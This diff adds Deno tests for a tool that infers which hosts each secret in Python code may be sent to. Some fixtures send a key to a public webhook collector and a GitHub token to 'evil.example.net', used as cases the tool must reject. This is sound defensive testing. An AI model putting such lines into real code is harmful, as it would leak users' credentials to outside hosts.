@@ -115,3 +115,107 @@ Deno.test("what cannot be read describes nothing", async () => {
   });
   assertEquals(Object.keys(found), ["API_KEY", "REGION", "MODE"]);
 });
+
+async function hostsOf(files: Record<string, string>): Promise<Record<string, unknown>> {
+  const found = await proposed(files);
+  return Object.fromEntries(Object.values(found).map(({ name, hosts }) => [name, hosts]));
+}
+
+const SENDING: [how: string, source: string, hosts: unknown][] = [
+  [
+    "in a header",
+    `requests.get("https://api.example.org/v1/items", headers={"Authorization": f"Bearer {KEY}"})`,
+    ["api.example.org"],
+  ],
+  [
+    "to a base address in a constant",
+    `BASE = "https://api.example.org/v1"
+requests.post(f"{BASE}/items", json={"key": KEY})`,
+    ["api.example.org"],
+  ],
+  [
+    "by a client with a base address",
+    `client = httpx.Client(base_url="https://api.example.org", headers={"X-Key": KEY})
+client.get("/items")`,
+    ["api.example.org"],
+  ],
+  [
+    "by a session with a header",
+    `session = requests.Session()
+session.headers["X-Key"] = KEY
+session.get("https://api.example.org/items")`,
+    ["api.example.org"],
+  ],
+  [
+    "to two hosts, one with a port",
+    `requests.get("https://a.example.org", params={"k": KEY})
+requests.get("https://b.example.org:8443/x", params={"k": KEY})`,
+    ["a.example.org", "b.example.org:8443"],
+  ],
+  [
+    "to a host whose beginning the user chooses",
+    `def ask(shop):
+    return requests.get(f"https://{shop}.example.org/items", headers={"X-Key": KEY})`,
+    ["*.example.org"],
+  ],
+  ["without TLS", `requests.get("http://api.example.org", headers={"X-Key": KEY})`, undefined],
+  ["to a number", `requests.get("https://203.0.113.7/", headers={"X-Key": KEY})`, undefined],
+  [
+    "to where anyone collects",
+    `requests.post("https://webhook.site/abc", json={"k": KEY})`,
+    undefined,
+  ],
+  ["nowhere", `print(len(KEY))`, undefined],
+];
+
+for (const [how, source, hosts] of SENDING) {
+  Deno.test(`the hosts of a key that is sent ${how} are proposed as the code says`, async () => {
+    const text = `import os
+import httpx
+import requests
+KEY = os.environ["SERVICE_API_KEY"]
+${source}
+`;
+    assertEquals(await hostsOf({ "server.py": text }), { SERVICE_API_KEY: hosts });
+  });
+}
+
+Deno.test("a key that only its name says whose it is gets the hosts of that service", async () => {
+  const text = `import os
+from github import Github
+client = Github(os.environ["GITHUB_TOKEN"])
+region = os.getenv("REGION")
+model = os.getenv("OPENAI_MODEL")
+`;
+  assertEquals(await hostsOf({ "server.py": text }), {
+    GITHUB_TOKEN: ["api.github.com"],
+    REGION: undefined,
+    OPENAI_MODEL: undefined,
+  });
+});
+
+Deno.test("a service's key is not proposed for another host", async () => {
+  const text = `import os
+import requests
+requests.post("https://evil.example.net", json={"k": os.environ["GITHUB_TOKEN"]})
+`;
+  assertEquals(await hostsOf({ "server.py": text }), { GITHUB_TOKEN: ["api.github.com"] });
+});
+
+Deno.test("a key that a client class keeps is proposed for where the class is told to send", async () => {
+  const text = `import os
+import requests
+
+class Client:
+    def __init__(self, url, key):
+        self.url = url
+        self.key = key
+
+    def ask(self, path):
+        return requests.get(self.url + path, headers={"X-Key": self.key})
+
+client = Client("https://api.example.org", os.environ["SERVICE_API_KEY"])
+client.ask("/items")
+`;
+  assertEquals(await hostsOf({ "server.py": text }), { SERVICE_API_KEY: ["api.example.org"] });
+});
